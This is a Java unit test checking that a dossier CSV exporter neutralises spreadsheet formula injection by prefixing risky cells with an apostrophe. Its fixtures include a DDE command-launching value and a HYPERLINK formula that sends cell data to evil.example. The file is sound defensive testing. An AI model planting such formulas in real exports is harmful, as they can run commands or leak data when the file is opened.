package vn.motcua.core.dossier;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class DossierCsvWriterTest {

    private static Dossier dossier(String applicant, String assignee) {
        Instant t = Instant.parse("2026-03-02T02:00:00Z");
        return new Dossier(1L, 7L, "H56-260302-0001", "1.001193", 1, "@SUM(1+1)*cmd|' /C calc'!A0", 1, "[]",
                Dossier.Channel.IN_PERSON, applicant, null, null, "{}", DossierStatus.values()[0], 1, t, t, "cb1",
                "25", null, null, null, assignee, null, null, null, false, 0L, t, t, "0123456789ABC");
    }

    private static List<CSVRecord> written(Dossier d) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        DossierCsvWriter.write(List.of(d), out);
        String csv = out.toString(StandardCharsets.UTF_8).substring(1);
        return CSVFormat.DEFAULT.parse(new StringReader(csv)).getRecords();
    }

    @Test
    void anApplicantNamedLikeAFormulaIsWrittenAsTextThatASpreadsheetWillNotEvaluate() throws IOException {
        CSVRecord row = written(dossier("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")", "+cb2")).get(1);
        assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")", row.get(3));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", row.get(2));
        assertEquals("'+cb2", row.get(9));
        assertEquals("H56-260302-0001", row.get(0));
    }

    @Test
    void cellsStartingWithMinusTabOrCarriageReturnAreNeutralisedToo() throws IOException {
        assertEquals("'-2+3", written(dossier("-2+3", null)).get(1).get(3));
        assertEquals("'\tx", written(dossier("\tx", null)).get(1).get(3));
        assertEquals("'\r=1", written(dossier("\r=1", null)).get(1).get(3));
        assertEquals("Nguyễn Văn A", written(dossier("Nguyễn Văn A", null)).get(1).get(3));
    }
}
